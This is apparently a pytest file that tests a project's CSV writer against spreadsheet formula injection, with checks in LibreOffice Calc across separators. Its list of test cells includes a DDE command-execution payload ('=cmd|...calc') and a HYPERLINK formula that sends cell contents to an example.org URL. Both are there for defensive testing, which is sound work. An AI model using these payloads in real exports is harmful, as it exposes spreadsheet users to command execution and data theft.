"""Lists as files for spreadsheets: no cell is a formula, and what was written is read again."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from campaign import csv_files
from campaign.csv_files import harmless, unquoted
from tests.tools import ROOT, needed

#: Every character that is, or that NFKC makes, the beginning of a formula.
STARTS = [
    chr(code) for code in range(0x110000) if unicodedata.normalize("NFKC", chr(code))[:1] in tuple("=+-@")
]

FORMULA = "=1+1"
CELLS = [
    *(f"{start}1+1" for start in STARTS),
    *(f"{space}{FORMULA}" for space in (" ", "\t", "\n", "\r", "\xa0", "\u3000", "\u200b", "\ufeff", "'", '"')),
    *(
        f"Ana{parting}{between}{FORMULA}{parting}x"
        for parting in (";", "\t", "\n", "\r\n", ",", "|", '";', '";"', "'", "; ;")
        for between in ("", " ", '"', '""', "'", ' "', "\n")
    ),
    'Ana;=HYPERLINK("http://example.org/?"&B1)', "Ana;=cmd|'/C calc'!A0;x", 'Ana;"=cmd|\'/C calc\'!A0;x', "=2+5;x",
    "-5", "+33 1 23", "@ana", "Ana", "", "Ana; Bo - Co", "- one\n- two", "Zoé Қасым",
]  # fmt: skip


@pytest.mark.parametrize("cell", CELLS)
def test_a_cell_that_was_written_is_read_as_it_was(cell: str) -> None:
    assert unquoted(harmless(cell)) == cell
    (written,) = csv.reader(io.StringIO(csv_files.table([[cell, "x"]])[1:], newline=""))
    assert [*map(unquoted, written)] == [cell, "x"]


@given(st.text("=+-@;\t\r\n'\" ,a＝\u200b\xa0", max_size=30))
@settings(max_examples=300)
def test_quotes_before_formulas_are_taken_away_again(cell: str) -> None:
    assert unquoted(harmless(cell)) == cell or cell.startswith('="')
    for part in re.split("[;\t\r\n]", harmless(cell)):
        assert not re.match('[\\s"]*[=+@＝-]', part)


def test_every_cell_is_in_quotes() -> None:
    assert csv_files.table([["name", "day"], ["Ana;x", ""]]) == '\ufeff"name","day"\r\n"Ana;x",""\r\n'


def test_no_other_module_writes_csv() -> None:
    writers = {path.name for path in (ROOT / "campaign").rglob("*.py") if "csv.writer(" in path.read_text()}
    assert writers == {"csv_files.py"}


SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}


@pytest.mark.slow
@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_is_a_formula_in_a_spreadsheet_of_any_separator(separator: str, tmp_path: Path) -> None:
    rows = [
        [place, other, cell] for cell in CELLS for place, other in (("x", cell), (cell, "y"), (cell, cell))
    ]
    (tmp_path / "ours.csv").write_text(csv_files.table(rows), encoding="utf-8")
    (tmp_path / "plain.csv").write_text(
        f'"Ana",{FORMULA}\n"Ana";{FORMULA}\n"Ana"\t{FORMULA}\n', encoding="utf-8"
    )
    tables = by_calc(tmp_path, SEPARATORS[separator], "plain.csv", "ours.csv")
    assert "table:formula" in tables["plain.csv"], "Calc did not calculate: this test shows nothing"
    assert re.findall(r"table:formula=\"[^\"]*\"", tables["ours.csv"]) == []


def by_calc(folder: Path, separator: int, *names: str) -> dict[str, str]:
    """Lists as LibreOffice Calc reads them with a separator: flat XML, in which formulas are told apart."""
    office = needed("soffice", "libreoffice-calc-nogui")
    profile = f"-env:UserInstallation=file://{folder}/profile"
    reading = f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,-1,true"
    command = [
        office,
        profile,
        "--headless",
        reading,
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
        *names,
    ]
    ran = subprocess.run(command, cwd=folder, capture_output=True, check=True, timeout=120)
    for name in names:
        assert (folder / name).with_suffix(".fods").exists(), (
            f"Calc is needed (libreoffice-calc-nogui): {ran.stderr!r}"
        )
    return {name: (folder / name).with_suffix(".fods").read_text("utf-8") for name in names}
